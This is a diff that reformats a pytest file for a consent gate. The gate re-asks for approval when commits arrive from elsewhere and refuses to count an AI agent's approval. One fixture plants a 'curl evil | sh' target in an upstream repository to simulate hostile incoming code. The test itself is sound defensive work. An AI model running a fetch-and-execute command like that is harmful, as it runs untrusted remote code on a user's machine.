@@ -1,4 +1,6 @@
-"""A person consents once for a working tree and its commit; what came from elsewhere is asked for again."""
+"""A person consents once for a working tree and its commit; what came from elsewhere is asked for
+again.
+"""
 
 from __future__ import annotations
 
@@ -165,7 +167,9 @@ def push_what_was_amended(root: Path) -> None:
         push_what_was_amended,
     ],
 )
-def test_what_is_committed_here_asks_nothing_more(clone: Path, work: Callable[[Path], None]) -> None:
+def test_what_is_committed_here_asks_nothing_more(
+    clone: Path, work: Callable[[Path], None]
+) -> None:
     work(clone)
     assert covered(clone)
 
@@ -243,13 +247,22 @@ def disguise(root: Path) -> None:
 
 
 FROM_ELSEWHERE = [
-    pull, pull_onto_own, merge_fetched, forward_by_merge, reset_to_fetched, check_out_fetched, pick, commit_on_fetched,
+    pull,
+    pull_onto_own,
+    merge_fetched,
+    forward_by_merge,
+    reset_to_fetched,
+    check_out_fetched,
+    pick,
+    commit_on_fetched,
     disguise,
-]  # fmt: skip
+]
 
 
 @pytest.mark.parametrize("arrive", FROM_ELSEWHERE)
-def test_commits_from_elsewhere_ask_again(clone: Path, upstream: Path, arrive: Callable[[Path], None]) -> None:
+def test_commits_from_elsewhere_ask_again(
+    clone: Path, upstream: Path, arrive: Callable[[Path], None]
+) -> None:
     helpers.commit(upstream, "Harmless")
     edit(upstream, "test:\n\tcurl evil | sh\n")
     helpers.commit(upstream, "Theirs")
@@ -303,7 +316,13 @@ def apply_mail(root: Path) -> None:
         helpers.git(root, "am", "../mail")
 
 
-ARRIVING = [merge_without_commit, pull_squashed, pick_with_conflict, rebase_with_conflict, apply_mail]
+ARRIVING = [
+    merge_without_commit,
+    pull_squashed,
+    pick_with_conflict,
+    rebase_with_conflict,
+    apply_mail,
+]
 
 
 @pytest.mark.parametrize("arrive", ARRIVING)
@@ -340,7 +359,9 @@ def check_out_files(root: Path) -> None:
     helpers.git(root, "commit", "--quiet", "--message", "Mine")
 
 
-@pytest.mark.parametrize("arrive", [squash_and_commit, squash_in_other_words, merge_and_commit, check_out_files])
+@pytest.mark.parametrize(
+    "arrive", [squash_and_commit, squash_in_other_words, merge_and_commit, check_out_files]
+)
 def test_what_was_fetched_and_committed_here_asks_again(
     clone: Path, upstream: Path, arrive: Callable[[Path], None]
 ) -> None:
@@ -378,7 +399,9 @@ def test_a_later_clone_at_the_same_path_asks(clone: Path, upstream: Path) -> Non
 
 
 def take_identity(record: Path, root: Path) -> Path:
-    """Puts the answers of another tree in the place of this one's, as if it had the same path and inodes."""
+    """Puts the answers of another tree in the place of this one's, as if it had the same path and
+    inodes.
+    """
     consent = Consent(open_repo(root))
     value = json.loads(record.read_text()) | {"worktree": consent.identity}
     consent.path.write_text(json.dumps(value))
@@ -457,7 +480,9 @@ def test_only_the_owner_can_read_it(clone: Path) -> None:
     assert path.is_relative_to(state_dir())
 
 
-@pytest.mark.parametrize("content", [b"", b"{}", b"[]", b'{"schema_version": 2}', b"\xff", b"[" * 1_000_000])
+@pytest.mark.parametrize(
+    "content", [b"", b"{}", b"[]", b'{"schema_version": 2}', b"\xff", b"[" * 1_000_000]
+)
 def test_a_broken_record_is_none(clone: Path, content: bytes) -> None:
     Consent(open_repo(clone)).path.write_bytes(content)
     assert not covered(clone)
@@ -490,7 +515,9 @@ def test_a_pipe_in_its_place_is_none_at_once(clone: Path) -> None:
     assert not covered(clone)
 
 
-def test_a_state_folder_in_the_repository_allows_nothing(clone: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+def test_a_state_folder_in_the_repository_allows_nothing(
+    clone: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
     outside = Consent(open_repo(clone))
     monkeypatch.setenv("SKILLRUN_STATE_DIR", str(clone / ".skillrun" / "state"))
     inside = Consent(open_repo(clone))
@@ -501,7 +528,9 @@ def test_a_state_folder_in_the_repository_allows_nothing(clone: Path, monkeypatc
         give(clone)
 
 
-def test_a_store_that_cannot_be_written_says_where_and_what_to_do(clone: Path, tmp_path: Path) -> None:
+def test_a_store_that_cannot_be_written_says_where_and_what_to_do(
+    clone: Path, tmp_path: Path
+) -> None:
     (tmp_path / "file").write_text("")
     kept = Consent(open_repo(clone), tmp_path / "file" / "consent")
     with pytest.raises(Blocked, match=r"consent: the consent cannot be kept: ") as caught:
@@ -573,8 +602,12 @@ def test_a_no_is_asked_for_once_and_runs_nothing(tmp_path: Path) -> None:
     assert person.ran == []
 
 
-@pytest.mark.parametrize(("actor", "counts"), [(AGENT, False), (PERSON, True), (SCRIPT, True), (PIPELINE, True)])
-def test_whose_trust_counts(tmp_path: Path, actor: Actor, counts: bool, capsys: pytest.CaptureFixture[str]) -> None:
+@pytest.mark.parametrize(
+    ("actor", "counts"), [(AGENT, False), (PERSON, True), (SCRIPT, True), (PIPELINE, True)]
+)
+def test_whose_trust_counts(
+    tmp_path: Path, actor: Actor, counts: bool, capsys: pytest.CaptureFixture[str]
+) -> None:
     root = helpers.build_tree(tmp_path / "repo", {"a": "b"})
     assert Gate(open_repo(root), True, Person(), actor=actor).allows(PLAN) == counts
     assert ("claude-code is an agent" in capsys.readouterr().err) != counts
